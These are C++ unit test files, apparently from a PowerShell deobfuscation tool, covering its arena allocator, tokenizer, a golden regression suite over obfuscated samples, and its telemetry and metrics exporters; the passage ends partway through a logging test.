#include <gtest/gtest.h>

#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "pslang/lexer.h"
#include "psast/ast.h"
#include "psast/parse_cache.h"
#include "psast/parser.h"
#include "psvalue/arena.h"

namespace {

using namespace ps;

// --- Arena ----------------------------------------------------------------

/// Counts constructions and destructions so tests can prove each arena
/// object is destroyed exactly once.
struct Counted {
  static int alive;
  static int destroyed;
  int payload;
  explicit Counted(int p) : payload(p) { ++alive; }
  ~Counted() {
    --alive;
    ++destroyed;
  }
};
int Counted::alive = 0;
int Counted::destroyed = 0;

TEST(Arena, ObjectsAreDestroyedExactlyOnce) {
  Counted::alive = 0;
  Counted::destroyed = 0;
  {
    Arena arena;
    for (int i = 0; i < 1000; ++i) arena.make<Counted>(i);
    EXPECT_EQ(Counted::alive, 1000);
    EXPECT_EQ(arena.finalizer_count(), 1000u);
  }
  EXPECT_EQ(Counted::alive, 0);
  EXPECT_EQ(Counted::destroyed, 1000);
}

TEST(Arena, TriviallyDestructibleTypesRegisterNoFinalizer) {
  Arena arena;
  arena.make<int>(7);
  arena.make<double>(1.5);
  EXPECT_EQ(arena.finalizer_count(), 0u);
  EXPECT_GE(arena.bytes_allocated(), sizeof(int) + sizeof(double));
}

TEST(Arena, FinalizersRunInReverseConstructionOrder) {
  std::vector<int> order;
  struct Recorder {
    std::vector<int>* order;
    int id;
    Recorder(std::vector<int>* o, int i) : order(o), id(i) {}
    ~Recorder() { order->push_back(id); }
  };
  {
    Arena arena;
    for (int i = 0; i < 4; ++i) arena.make<Recorder>(&order, i);
  }
  EXPECT_EQ(order, (std::vector<int>{3, 2, 1, 0}));
}

TEST(Arena, AllocationsAreAligned) {
  Arena arena;
  for (int i = 0; i < 64; ++i) {
    arena.allocate(1, 1);  // deliberately misalign the cursor
    void* p = arena.allocate(sizeof(double), alignof(double));
    EXPECT_EQ(reinterpret_cast<std::uintptr_t>(p) % alignof(double), 0u);
  }
}

TEST(Arena, LargeAllocationsGrowChunks) {
  Arena arena;
  // Larger than a default chunk, to force a dedicated grow.
  void* big = arena.allocate(Arena::kDefaultChunkBytes * 2, 16);
  ASSERT_NE(big, nullptr);
  EXPECT_GE(arena.chunk_count(), 1u);
  // And the arena keeps serving small allocations afterwards.
  int* x = arena.make<int>(42);
  EXPECT_EQ(*x, 42);
}

TEST(Arena, ChunksParkOnThreadFreelistAndReuse) {
  Arena::trim_thread_freelist();
  EXPECT_EQ(Arena::thread_freelist_size(), 0u);
  {
    Arena arena;
    arena.allocate(1024, 8);
  }
  const std::size_t parked = Arena::thread_freelist_size();
  EXPECT_GE(parked, 1u);
  {
    // The next arena on this thread reuses the parked chunk instead of
    // growing through the global allocator.
    Arena arena;
    arena.allocate(1024, 8);
    EXPECT_LT(Arena::thread_freelist_size(), parked);
  }
  Arena::trim_thread_freelist();
  EXPECT_EQ(Arena::thread_freelist_size(), 0u);
}

TEST(ArenaPtr, BehavesLikeANonOwningUniquePtr) {
  Arena arena;
  ArenaPtr<std::string> p = arena.make<std::string>("hello");
  ASSERT_TRUE(p);
  EXPECT_EQ(*p, "hello");
  EXPECT_EQ(p->size(), 5u);
  ArenaPtr<std::string> copy = p;  // copying is allowed: lifetime is arena's
  EXPECT_EQ(copy, p);
  p.reset();
  EXPECT_FALSE(p);
  EXPECT_TRUE(p == nullptr);
  EXPECT_EQ(*copy, "hello");  // the object is untouched by reset()
}

// --- Zero-copy tokens ------------------------------------------------------

TEST(TokenStream, ViewsSurviveStreamMoves) {
  TokenStream stream = tokenize("Write-Host 'He`llo' $world");
  ASSERT_FALSE(stream.empty());
  // Take raw views before moving the stream around.
  std::vector<std::string> before;
  for (const Token& t : stream) before.emplace_back(t.content);

  TokenStream moved = std::move(stream);
  TokenStream moved_again;
  moved_again = std::move(moved);

  ASSERT_EQ(moved_again.size(), before.size());
  for (std::size_t i = 0; i < moved_again.size(); ++i) {
    EXPECT_EQ(std::string(moved_again[i].content), before[i]) << i;
    // The views still point into the stream's pinned buffers.
    EXPECT_NE(moved_again.source(), nullptr);
  }
}

TEST(TokenStream, TokensFromACopySurviveTheOriginal) {
  std::vector<Token> kept;
  TokenStream copy;
  {
    TokenStream original = tokenize("$a = \"b`tc\" + 'd'");
    copy = original;  // shares the pinned source + interner
    for (const Token& t : original) kept.push_back(t);
  }
  // The original is gone; the copy pins the buffers, so the raw Token
  // copies' views are intact.
  ASSERT_FALSE(kept.empty());
  bool saw_unescaped = false;
  for (const Token& t : kept) {
    EXPECT_LE(t.content.size(), copy.source()->size() + 16);
    if (t.type == TokenType::String && std::string(t.content) == "b\tc") {
      saw_unescaped = true;  // cooked via the interner, not the source slice
    }
  }
  EXPECT_TRUE(saw_unescaped);
}

TEST(TokenStream, CookedContentAliasesSourceWhenIdentical) {
  const TokenStream stream = tokenize("Write-Host 123");
  const std::string& src = *stream.source();
  const char* lo = src.data();
  const char* hi = src.data() + src.size();
  for (const Token& t : stream) {
    ASSERT_FALSE(t.text.empty());
    EXPECT_GE(t.text.data(), lo);
    EXPECT_LE(t.text.data() + t.text.size(), hi);
    if (!t.content.empty()) {
      // Nothing in this script needs cooking, so content views must alias
      // the pinned source buffer (zero-copy), not an interned duplicate.
      EXPECT_GE(t.content.data(), lo);
      EXPECT_LE(t.content.data() + t.content.size(), hi);
    }
  }
}

// --- Arena-backed parses ---------------------------------------------------

TEST(ParsedScript, SharesOneArenaAcrossCopies) {
  ParsedScript a = parse("function f { 1 + 2 }; f");
  ASSERT_TRUE(a);
  ParsedScript b = a;  // one refcount bump on the arena, no tree copy
  EXPECT_EQ(a.get(), b.get());
  a.reset();
  EXPECT_FALSE(a);
  ASSERT_TRUE(b);
  EXPECT_FALSE(b->named_blocks.empty());
}

TEST(ParsedScript, CachedAstOutlivesCacheEviction) {
  // Two entries total, so a handful of inserts evicts everything.
  ParseCache cache(2);
  const std::string text = "$x = 1; Write-Host $x";
  ParseCache::Result held = cache.get(text);
  ASSERT_TRUE(held.valid);
  ASSERT_NE(held.ast, nullptr);
  ASSERT_NE(held.source, nullptr);

  for (int i = 0; i < 64; ++i) {
    (void)cache.get("Write-Host " + std::to_string(i));
  }
  cache.clear();  // even explicit clearing must not free the held parse

  // The held Result keeps the arena (tree + pinned source) alive.
  ASSERT_NE(held.ast, nullptr);
  EXPECT_EQ(*held.source, text);
  EXPECT_FALSE(held.ast->named_blocks.empty());
  EXPECT_LE(held.ast->end(), held.source->size());
}

TEST(ParsedScript, InvalidTextYieldsNullRootButValidHandle) {
  std::string error;
  ParsedScript p = try_parse("if (", &error);
  EXPECT_FALSE(p);
  EXPECT_TRUE(p == nullptr);
}

}  // namespace
