// Golden-file regression suite over the checked-in dataset
// (data/regression): every sample's clean ground truth must be recoverable
// from its obfuscated form, and behavior must match — pinned against the
// exact files shipped in the repository, not regenerated ones.

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "analysis/keyinfo.h"
#include "core/deobfuscator.h"
#include "psast/parser.h"
#include "sandbox/sandbox.h"

namespace ideobf {
namespace {

namespace fs = std::filesystem;

std::string slurp(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  EXPECT_TRUE(in.good()) << path;
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

fs::path data_dir() { return fs::path(IDEOBF_SOURCE_DIR) / "data" / "regression"; }

std::vector<int> sample_ids() {
  std::vector<int> ids;
  for (int i = 0;; ++i) {
    if (!fs::exists(data_dir() / ("sample_" + std::to_string(i) + ".obf.ps1"))) {
      break;
    }
    ids.push_back(i);
  }
  return ids;
}

class GoldenSample : public ::testing::TestWithParam<int> {
 protected:
  std::string obf() {
    return slurp(data_dir() / ("sample_" + std::to_string(GetParam()) + ".obf.ps1"));
  }
  std::string clean() {
    return slurp(data_dir() /
                 ("sample_" + std::to_string(GetParam()) + ".clean.ps1"));
  }
};

TEST_P(GoldenSample, FilesAreValidSyntax) {
  EXPECT_TRUE(ps::is_valid_syntax(obf()));
  EXPECT_TRUE(ps::is_valid_syntax(clean()));
}

TEST_P(GoldenSample, KeyInfoRecovered) {
  InvokeDeobfuscator deobf;
  const KeyInfo truth = extract_key_info(clean());
  const KeyInfo found = extract_key_info(deobf.deobfuscate(obf()));
  // URLs and IPs are the critical IOCs; every one must be recovered.
  for (const auto& u : truth.urls) {
    EXPECT_TRUE(found.urls.count(u)) << "missing url " << u;
  }
  for (const auto& ip : truth.ips) {
    EXPECT_TRUE(found.ips.count(ip)) << "missing ip " << ip;
  }
}

TEST_P(GoldenSample, BehaviorPreserved) {
  InvokeDeobfuscator deobf;
  Sandbox sandbox;
  const BehaviorProfile a = sandbox.run(obf());
  const BehaviorProfile b = sandbox.run(deobf.deobfuscate(obf()));
  EXPECT_TRUE(Sandbox::same_network_behavior(a, b));
}

INSTANTIATE_TEST_SUITE_P(Data, GoldenSample, ::testing::ValuesIn(sample_ids()));

TEST(GoldenCorpus, HasSamples) { EXPECT_GE(sample_ids().size(), 20u); }

}  // namespace
}  // namespace ideobf
