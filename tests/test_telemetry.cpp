// Tests for the telemetry subsystem: sharded metrics (counter/gauge merge,
// histogram bucket boundaries), phase spans (nesting, self-time partition,
// balance counters, disabled cost), and both exporters (Prometheus text
// exposition golden + Chrome trace structure for a two-script batch).
//
// Telemetry state is process-global (enabled flag, registry, span stacks);
// every test that enables it does so through the RAII guard below so a
// failing assertion cannot leak an enabled flag into the next test.

#include <gtest/gtest.h>

#include <cstdint>
#include <string>
#include <thread>
#include <vector>

#include <fcntl.h>
#include <unistd.h>

#include "core/batch.h"
#include "core/deobfuscator.h"
#include "telemetry/build_info.h"
#include "telemetry/chrome_trace.h"
#include "telemetry/exposition.h"
#include "telemetry/log.h"
#include "telemetry/metrics.h"
#include "telemetry/snapshot.h"
#include "telemetry/telemetry.h"

namespace ideobf::telemetry {
namespace {

/// Resets the process registry and enables recording for one test body.
struct TelemetryOn {
  TelemetryOn() {
    Telemetry::metrics().reset();
    Telemetry::enable();
  }
  ~TelemetryOn() {
    Telemetry::disable();
    Telemetry::set_trace_recorder(nullptr);
  }
};

// ---------------------------------------------------------------- metrics

TEST(TelemetryMetrics, DisabledRecordingIsANoOp) {
  Telemetry::disable();
  Counter& c = registry().counter("test_disabled_total");
  const std::uint64_t before = c.value();
  c.add();
  c.add(41);
  EXPECT_EQ(c.value(), before);
}

TEST(TelemetryMetrics, RegistryInternsByNameAndLabels) {
  Counter& a = registry().counter("test_intern_total", "kind=\"x\"");
  Counter& b = registry().counter("test_intern_total", "kind=\"x\"");
  Counter& c = registry().counter("test_intern_total", "kind=\"y\"");
  EXPECT_EQ(&a, &b);
  EXPECT_NE(&a, &c);
}

TEST(TelemetryMetrics, CounterMergesAcrossShards) {
  TelemetryOn on;
  Counter& c = registry().counter("test_shard_merge_total");
  // One writer thread per shard, each bound explicitly to its own slot the
  // way deobfuscate_batch binds pool workers. The merged value must be the
  // exact sum — relaxed per-shard cells, no lost updates.
  constexpr unsigned kThreads = kShardCount;
  constexpr std::uint64_t kPerThread = 10000;
  std::vector<std::thread> writers;
  writers.reserve(kThreads);
  for (unsigned t = 0; t < kThreads; ++t) {
    writers.emplace_back([&c, t] {
      set_current_shard(t);
      for (std::uint64_t i = 0; i < kPerThread; ++i) c.add();
    });
  }
  for (std::thread& w : writers) w.join();
  EXPECT_EQ(c.value(), kThreads * kPerThread);
  // Each bound thread wrote only its own shard.
  for (unsigned s = 0; s < kShardCount; ++s) {
    EXPECT_EQ(c.shard_value(s), kPerThread) << "shard " << s;
  }
}

TEST(TelemetryMetrics, GaugeSumsSignedDeltasAcrossShards) {
  TelemetryOn on;
  Gauge& g = registry().gauge("test_gauge");
  std::thread up([&g] {
    set_current_shard(1);
    for (int i = 0; i < 100; ++i) g.add(3);
  });
  std::thread down([&g] {
    set_current_shard(2);
    for (int i = 0; i < 100; ++i) g.sub(2);
  });
  up.join();
  down.join();
  EXPECT_EQ(g.value(), 100);
}

TEST(TelemetryMetrics, ResetZeroesValuesButKeepsHandles) {
  TelemetryOn on;
  Counter& c = registry().counter("test_reset_total");
  c.add(7);
  ASSERT_EQ(c.value(), 7u);
  registry().reset();
  EXPECT_EQ(c.value(), 0u);
  c.add(1);  // handle still live after reset
  EXPECT_EQ(c.value(), 1u);
}

// -------------------------------------------------------------- histogram

TEST(TelemetryHistogram, BucketIndexBoundariesAreInclusive) {
  const auto& bounds = Histogram::bounds_ns();
  ASSERT_EQ(bounds.size(), Histogram::kBucketCount - 1);
  EXPECT_EQ(Histogram::bucket_index(0), 0u);
  for (std::size_t i = 0; i < bounds.size(); ++i) {
    // An observation exactly on a bound lands in that bucket; one past it
    // spills into the next (the +Inf overflow for the last bound).
    EXPECT_EQ(Histogram::bucket_index(bounds[i]), i) << bounds[i];
    EXPECT_EQ(Histogram::bucket_index(bounds[i] + 1), i + 1) << bounds[i];
  }
  EXPECT_EQ(Histogram::bucket_index(UINT64_MAX),
            Histogram::kBucketCount - 1);
}

TEST(TelemetryHistogram, LadderIsStrictlyIncreasing) {
  const auto& bounds = Histogram::bounds_ns();
  EXPECT_EQ(bounds.front(), 1'000u);            // 1 µs
  EXPECT_EQ(bounds.back(), 10'000'000'000u);    // 10 s
  for (std::size_t i = 1; i < bounds.size(); ++i) {
    EXPECT_LT(bounds[i - 1], bounds[i]);
  }
}

TEST(TelemetryHistogram, ObservationsMergeAcrossShards) {
  TelemetryOn on;
  Histogram& h = registry().histogram("test_hist_seconds");
  std::thread a([&h] {
    set_current_shard(3);
    h.observe_ns(1'000);       // bucket 0 (== first bound)
    h.observe_ns(700'000);     // 0.7 ms
  });
  std::thread b([&h] {
    set_current_shard(4);
    h.observe_ns(700'000);
    h.observe_ns(20'000'000'000);  // 20 s -> +Inf overflow
  });
  a.join();
  b.join();
  EXPECT_EQ(h.count(), 4u);
  EXPECT_EQ(h.sum_ns(), 1'000u + 700'000u + 700'000u + 20'000'000'000u);
  EXPECT_EQ(h.bucket_value(0), 1u);
  EXPECT_EQ(h.bucket_value(Histogram::bucket_index(700'000)), 2u);
  EXPECT_EQ(h.bucket_value(Histogram::kBucketCount - 1), 1u);
}

// ------------------------------------------------------------------ spans

TEST(TelemetrySpan, DisabledSpanRecordsNothing) {
  Telemetry::disable();
  PipelineProfile profile;
  {
    ProfileScope scope(&profile);
    PhaseSpan outer(Phase::Pipeline);
    PhaseSpan inner(Phase::Recovery);
  }
  EXPECT_TRUE(profile.empty());
  EXPECT_EQ(profile.accounted_seconds(), 0.0);
}

TEST(TelemetrySpan, SelfTimePartitionsTheOuterSpan) {
  TelemetryOn on;
  PipelineProfile profile;
  {
    ProfileScope scope(&profile);
    PhaseSpan pipeline(Phase::Pipeline);
    {
      PhaseSpan recovery(Phase::Recovery);
      PhaseSpan piece(Phase::PieceExecution);  // nested two deep
    }
    PhaseSpan rename(Phase::Rename);
  }
  EXPECT_EQ(profile.stat(Phase::Pipeline).count, 1u);
  EXPECT_EQ(profile.stat(Phase::Recovery).count, 1u);
  EXPECT_EQ(profile.stat(Phase::PieceExecution).count, 1u);
  EXPECT_EQ(profile.stat(Phase::Rename).count, 1u);
  // A child's wall time is contained in its parent's.
  EXPECT_LE(profile.stat(Phase::PieceExecution).total_ns,
            profile.stat(Phase::Recovery).total_ns);
  EXPECT_LE(profile.stat(Phase::Recovery).total_ns,
            profile.stat(Phase::Pipeline).total_ns);
  // Self time excludes nested spans...
  EXPECT_LE(profile.stat(Phase::Recovery).self_ns,
            profile.stat(Phase::Recovery).total_ns);
  // ...and the per-phase self times partition the outer span exactly: the
  // subtraction telescopes, so the identity holds in integer nanoseconds.
  const std::uint64_t accounted =
      profile.stat(Phase::Pipeline).self_ns +
      profile.stat(Phase::Recovery).self_ns +
      profile.stat(Phase::PieceExecution).self_ns +
      profile.stat(Phase::Rename).self_ns;
  EXPECT_EQ(accounted, profile.stat(Phase::Pipeline).total_ns);
}

TEST(TelemetrySpan, BalanceCountersMatchAfterScopeExit) {
  TelemetryOn on;
  const std::uint64_t opened0 = spans_opened_counter().value();
  const std::uint64_t closed0 = spans_closed_counter().value();
  {
    PhaseSpan a(Phase::TokenPass);
    PhaseSpan b(Phase::Recovery, "detail");
  }
  EXPECT_EQ(spans_opened_counter().value() - opened0, 2u);
  EXPECT_EQ(spans_closed_counter().value() - closed0, 2u);
}

TEST(TelemetrySpan, SpanOpenedWhileEnabledStillClosesAfterDisable) {
  Telemetry::metrics().reset();
  Telemetry::enable();
  {
    PhaseSpan span(Phase::TokenPass);
    // Telemetry switched off mid-span (an operator toggling the endpoint):
    // the close must still be counted or the balance gate would see a leak.
    Telemetry::disable();
  }
  EXPECT_EQ(spans_opened_counter().value(), spans_closed_counter().value());
}

TEST(TelemetrySpan, ProfileScopesNestAndRestore) {
  TelemetryOn on;
  PipelineProfile outer_profile;
  PipelineProfile inner_profile;
  {
    ProfileScope outer(&outer_profile);
    { PhaseSpan span(Phase::Rename); }
    {
      ProfileScope inner(&inner_profile);
      PhaseSpan span(Phase::Reformat);
    }
    // Binding restored: this span lands in the outer profile again.
    { PhaseSpan span(Phase::Rename); }
  }
  EXPECT_EQ(outer_profile.stat(Phase::Rename).count, 2u);
  EXPECT_EQ(outer_profile.stat(Phase::Reformat).count, 0u);
  EXPECT_EQ(inner_profile.stat(Phase::Reformat).count, 1u);
  EXPECT_EQ(inner_profile.stat(Phase::Rename).count, 0u);
}

TEST(TelemetrySpan, ProfileMergeSumsStats) {
  PipelineProfile a;
  PipelineProfile b;
  a.phases[static_cast<std::size_t>(Phase::Parse)] = {2, 100, 150};
  b.phases[static_cast<std::size_t>(Phase::Parse)] = {3, 50, 70};
  a.merge(b);
  EXPECT_EQ(a.stat(Phase::Parse).count, 5u);
  EXPECT_EQ(a.stat(Phase::Parse).self_ns, 150u);
  EXPECT_EQ(a.stat(Phase::Parse).total_ns, 220u);
}

// -------------------------------------------------------------- exporters

TEST(TelemetryExport, PrometheusGoldenForHandBuiltRegistry) {
  TelemetryOn on;
  set_current_shard(0);
  // A private registry makes the exposition fully deterministic (the
  // process registry accumulates whatever other tests registered).
  MetricsRegistry reg;
  reg.counter("demo_requests_total", "kind=\"a\"").add(3);
  reg.counter("demo_requests_total", "kind=\"b\"").add(1);
  reg.counter("other_total").add(2);
  reg.gauge("demo_inflight").add(4);

  const std::string expected =
      "# TYPE demo_requests_total counter\n"
      "demo_requests_total{kind=\"a\"} 3\n"
      "demo_requests_total{kind=\"b\"} 1\n"
      "# TYPE other_total counter\n"
      "other_total 2\n"
      "# TYPE demo_inflight gauge\n"
      "demo_inflight 4\n";
  EXPECT_EQ(render_prometheus(reg), expected);
}

TEST(TelemetryExport, PrometheusHistogramIsCumulativeWithInf) {
  TelemetryOn on;
  set_current_shard(0);
  MetricsRegistry reg;
  Histogram& h = reg.histogram("demo_seconds", "phase=\"lex\"");
  h.observe_ns(1'000);            // first bucket
  h.observe_ns(2'000);            // second bucket (<= 2.5 µs)
  h.observe_ns(20'000'000'000);   // +Inf overflow

  const std::string out = render_prometheus(reg);
  EXPECT_NE(out.find("# TYPE demo_seconds histogram"), std::string::npos);
  EXPECT_NE(out.find("demo_seconds_bucket{phase=\"lex\",le=\"1e-06\"} 1\n"),
            std::string::npos);
  EXPECT_NE(out.find("demo_seconds_bucket{phase=\"lex\",le=\"2.5e-06\"} 2\n"),
            std::string::npos);
  // Every later finite bucket stays cumulative at 2; +Inf catches all 3.
  EXPECT_NE(out.find("demo_seconds_bucket{phase=\"lex\",le=\"10\"} 2\n"),
            std::string::npos);
  EXPECT_NE(out.find("demo_seconds_bucket{phase=\"lex\",le=\"+Inf\"} 3\n"),
            std::string::npos);
  EXPECT_NE(out.find("demo_seconds_sum{phase=\"lex\"} 20.000003\n"),
            std::string::npos);
  EXPECT_NE(out.find("demo_seconds_count{phase=\"lex\"} 3\n"),
            std::string::npos);
}

TEST(TelemetryExport, TraceRecorderCapsAndReportsTruncation) {
  TelemetryOn on;
  set_current_shard(0);
  TraceRecorder rec(4);
  for (int i = 0; i < 6; ++i) {
    rec.record(Phase::Lex, {}, static_cast<std::uint64_t>(i) * 100, 50);
  }
  EXPECT_EQ(rec.event_count(), 4u);
  EXPECT_EQ(rec.dropped(), 2u);
  EXPECT_TRUE(rec.truncated());
  const std::string json = rec.render();
  EXPECT_NE(json.find("\"truncated\":true"), std::string::npos);
  EXPECT_NE(json.find("\"droppedEvents\":2"), std::string::npos);
  rec.clear();
  EXPECT_EQ(rec.event_count(), 0u);
  EXPECT_FALSE(rec.truncated());
}

/// Two-script batch through the real pipeline with both exporters armed:
/// the structural "golden" for what a CLI --metrics/--trace-out run emits.
TEST(TelemetryExport, TwoScriptBatchFeedsBothExporters) {
  TelemetryOn on;
  TraceRecorder recorder;
  Telemetry::set_trace_recorder(&recorder);

  const std::vector<std::string> scripts = {
      "IeX ('Write-Output '+\"'one'\")",
      "$a = 'two'\nWr`ite-Output $a",
  };
  InvokeDeobfuscator deobf;
  BatchReport report;
  Options options;
  options.threads = 2;
  const auto results = deobfuscate_batch(deobf, scripts, report, options);
  Telemetry::set_trace_recorder(nullptr);
  ASSERT_EQ(results.size(), 2u);
  EXPECT_EQ(report.failed(), 0);

  // The aggregated batch profile saw one Pipeline span per script.
  EXPECT_EQ(report.profile.stat(Phase::Pipeline).count, 2u);
  EXPECT_GE(report.profile.stat(Phase::TokenPass).count, 2u);

  // Chrome trace: thread-name metadata, complete events, no truncation.
  const std::string trace = recorder.render();
  EXPECT_FALSE(recorder.truncated());
  EXPECT_NE(trace.find("\"traceEvents\":["), std::string::npos);
  EXPECT_NE(trace.find("\"ph\":\"X\""), std::string::npos);
  EXPECT_NE(trace.find("\"ph\":\"M\""), std::string::npos);
  EXPECT_NE(trace.find("thread_name"), std::string::npos);
  EXPECT_NE(trace.find("\"name\":\"pipeline\""), std::string::npos);
  EXPECT_NE(trace.find("\"truncated\":false"), std::string::npos);
  EXPECT_EQ(recorder.event_count(),
            spans_closed_counter().value());

  // Prometheus exposition of the same run: phase histogram populated and
  // the span-balance counters visible and equal.
  const std::string metrics = render_prometheus(registry());
  EXPECT_NE(metrics.find("# TYPE ideobf_phase_seconds histogram"),
            std::string::npos);
  EXPECT_NE(metrics.find("ideobf_phase_seconds_count{phase=\"pipeline\"} 2"),
            std::string::npos);
  EXPECT_NE(metrics.find("ideobf_batch_item_total 2"), std::string::npos);
  EXPECT_EQ(spans_opened_counter().value(), spans_closed_counter().value());

  // Registry reconciliation, the invariant the bench gate also asserts:
  // parse-cache lookups == hits + misses + bypasses.
  auto& reg = registry();
  const std::uint64_t lookups =
      reg.counter("ideobf_parse_cache_lookup_total").value();
  const std::uint64_t hits =
      reg.counter("ideobf_parse_cache_hit_total").value();
  const std::uint64_t misses =
      reg.counter("ideobf_parse_cache_miss_total").value();
  const std::uint64_t bypasses =
      reg.counter("ideobf_parse_cache_bypass_total").value();
  EXPECT_EQ(lookups, hits + misses + bypasses);
  EXPECT_GT(lookups, 0u);
}

// --------------------------------------------------- exposition conformance

TEST(TelemetryExposition, LabelValueEscapingPerPrometheusTextFormat) {
  // Backslash, double-quote, and newline are the three characters the text
  // format requires escaping in label values — in that replacement order,
  // so an already-escaped backslash is not double-mangled.
  EXPECT_EQ(escape_label_value("plain"), "plain");
  EXPECT_EQ(escape_label_value("a\\b"), "a\\\\b");
  EXPECT_EQ(escape_label_value("say \"hi\""), "say \\\"hi\\\"");
  EXPECT_EQ(escape_label_value("line1\nline2"), "line1\\nline2");
  EXPECT_EQ(escape_label_value("\\\"\n"), "\\\\\\\"\\n");
  EXPECT_EQ(prom_label("worker", "0"), "worker=\"0\"");
  EXPECT_EQ(prom_label("path", "C:\\x"), "path=\"C:\\\\x\"");
}

TEST(TelemetryExposition, HelpPrecedesTypeForCatalogedMetrics) {
  TelemetryOn on;
  set_current_shard(0);
  MetricsRegistry reg;
  reg.counter("ideobf_server_requests_total", "status=\"ok\"").add(2);
  const std::string out = render_prometheus(reg);
  const std::size_t help =
      out.find("# HELP ideobf_server_requests_total ");
  const std::size_t type =
      out.find("# TYPE ideobf_server_requests_total counter");
  ASSERT_NE(help, std::string::npos) << out;
  ASSERT_NE(type, std::string::npos) << out;
  EXPECT_LT(help, type);
  // Uncataloged names render without HELP (the hand-built goldens above
  // depend on this staying true).
  EXPECT_FALSE(metric_help("ideobf_server_requests_total").empty());
  EXPECT_TRUE(metric_help("demo_requests_total").empty());
}

TEST(TelemetryExposition, OrderingIsStableAcrossRenders) {
  TelemetryOn on;
  set_current_shard(0);
  MetricsRegistry reg;
  reg.counter("zz_total").add(1);
  reg.counter("aa_total", "kind=\"b\"").add(1);
  reg.counter("aa_total", "kind=\"a\"").add(1);
  reg.gauge("mm_gauge").add(1);
  const std::string first = render_prometheus(reg);
  const std::string second = render_prometheus(reg);
  EXPECT_EQ(first, second);
  // Lexicographic by (base, labels): aa before zz, kind="a" before kind="b".
  EXPECT_LT(first.find("aa_total{kind=\"a\"}"),
            first.find("aa_total{kind=\"b\"}"));
  EXPECT_LT(first.find("aa_total{kind=\"b\"}"), first.find("zz_total"));
}

TEST(TelemetryExposition, BuildInfoAndUptimeAppearInProcessRegistry) {
  TelemetryOn on;
  register_build_info();
  update_uptime_gauge();
  const std::string out = render_prometheus(registry());
  EXPECT_NE(out.find("ideobf_build_info{"), std::string::npos);
  EXPECT_NE(out.find("version=\""), std::string::npos);
  EXPECT_NE(out.find("git_sha=\""), std::string::npos);
  EXPECT_NE(out.find("ideobf_server_uptime_seconds"), std::string::npos);
  EXPECT_FALSE(build_version().empty());
  EXPECT_GE(process_uptime_seconds(), 0.0);
}

TEST(TelemetryMetrics, GaugeSetIsAbsoluteAcrossShards) {
  TelemetryOn on;
  Gauge& g = registry().gauge("test_gauge_set");
  set_current_shard(5);
  g.add(100);
  g.set(7);
  EXPECT_EQ(g.value(), 7);
  g.set(0);
  EXPECT_EQ(g.value(), 0);
}

// ---------------------------------------------------------------- snapshots

TEST(TelemetrySnapshot, SerializeParseRoundTrip) {
  MetricsSnapshotFile file;
  file.worker = 3;
  file.unix_seconds = 1754650000;
  file.requests_total = 42;
  file.snapshot.counters.push_back(
      {"ideobf_server_requests_total", "status=\"ok\"", 17});
  file.snapshot.counters.push_back(
      {"ideobf_server_requests_total", "status=\"time out\"", 2});
  file.snapshot.gauges.push_back({"ideobf_server_queue_depth", "", 4});
  RegistrySnapshot::HistogramSample h;
  h.base = "ideobf_server_request_seconds";
  h.buckets[0] = 1;
  h.buckets[Histogram::kBucketCount - 1] = 2;
  h.count = 3;
  h.sum_ns = 123456789;
  file.snapshot.histograms.push_back(h);

  const std::string text = serialize_snapshot(file);
  MetricsSnapshotFile parsed;
  std::string error;
  ASSERT_TRUE(parse_snapshot(text, parsed, error)) << error;
  EXPECT_EQ(parsed.worker, 3);
  EXPECT_EQ(parsed.unix_seconds, 1754650000u);
  EXPECT_EQ(parsed.requests_total, 42u);
  ASSERT_EQ(parsed.snapshot.counters.size(), 2u);
  EXPECT_EQ(parsed.snapshot.counters[0].base, "ideobf_server_requests_total");
  EXPECT_EQ(parsed.snapshot.counters[0].labels, "status=\"ok\"");
  EXPECT_EQ(parsed.snapshot.counters[0].value, 17u);
  // The label body with an embedded space survives the \s escaping.
  EXPECT_EQ(parsed.snapshot.counters[1].labels, "status=\"time out\"");
  ASSERT_EQ(parsed.snapshot.gauges.size(), 1u);
  EXPECT_EQ(parsed.snapshot.gauges[0].value, 4);
  ASSERT_EQ(parsed.snapshot.histograms.size(), 1u);
  EXPECT_EQ(parsed.snapshot.histograms[0].count, 3u);
  EXPECT_EQ(parsed.snapshot.histograms[0].sum_ns, 123456789u);
  EXPECT_EQ(parsed.snapshot.histograms[0].buckets[0], 1u);
  EXPECT_EQ(
      parsed.snapshot.histograms[0].buckets[Histogram::kBucketCount - 1], 2u);

  // Header-only parse sees the same identity facts.
  MetricsSnapshotFile header;
  ASSERT_TRUE(parse_snapshot_header(text, header));
  EXPECT_EQ(header.worker, 3);
  EXPECT_EQ(header.requests_total, 42u);

  // Garbage is refused with a reason; a torn sample line is skipped.
  MetricsSnapshotFile bad;
  EXPECT_FALSE(parse_snapshot("not a snapshot", bad, error));
  EXPECT_FALSE(error.empty());
}

TEST(TelemetrySnapshot, MergeSumsFleetWideAndLabelsPerWorker) {
  MetricsSnapshotFile w0;
  w0.worker = 0;
  w0.snapshot.counters.push_back(
      {"ideobf_server_requests_total", "status=\"ok\"", 2});
  MetricsSnapshotFile w1;
  w1.worker = 1;
  w1.snapshot.counters.push_back(
      {"ideobf_server_requests_total", "status=\"ok\"", 3});
  w1.snapshot.gauges.push_back({"ideobf_server_queue_depth", "", 5});

  const RegistrySnapshot merged = merge_snapshots({w0, w1});
  const std::string out = render_prometheus(merged);
  // Fleet-wide sum under the original label body...
  EXPECT_NE(out.find("ideobf_server_requests_total{status=\"ok\"} 5"),
            std::string::npos)
      << out;
  // ...plus one attributed sample per worker.
  EXPECT_NE(
      out.find("ideobf_server_requests_total{status=\"ok\",worker=\"0\"} 2"),
      std::string::npos)
      << out;
  EXPECT_NE(
      out.find("ideobf_server_requests_total{status=\"ok\",worker=\"1\"} 3"),
      std::string::npos)
      << out;
  EXPECT_NE(out.find("ideobf_server_queue_depth{worker=\"1\"} 5"),
            std::string::npos)
      << out;
}

// --------------------------------------------------------- structured logs

/// Restores the global logger config a test body changed.
struct LogGuard {
  ~LogGuard() {
    set_log_level(LogLevel::Off);
    set_log_fd(2);
    set_log_worker(-1);
    set_log_rate_limit(0.0, 0.0);
  }
};

std::string read_all(const std::string& path) {
  std::string out;
  char buf[4096];
  const int fd = ::open(path.c_str(), O_RDONLY);
  if (fd < 0) return out;
  ssize_t n = 0;
  while ((n = ::read(fd, buf, sizeof(buf))) > 0) out.append(buf, n);
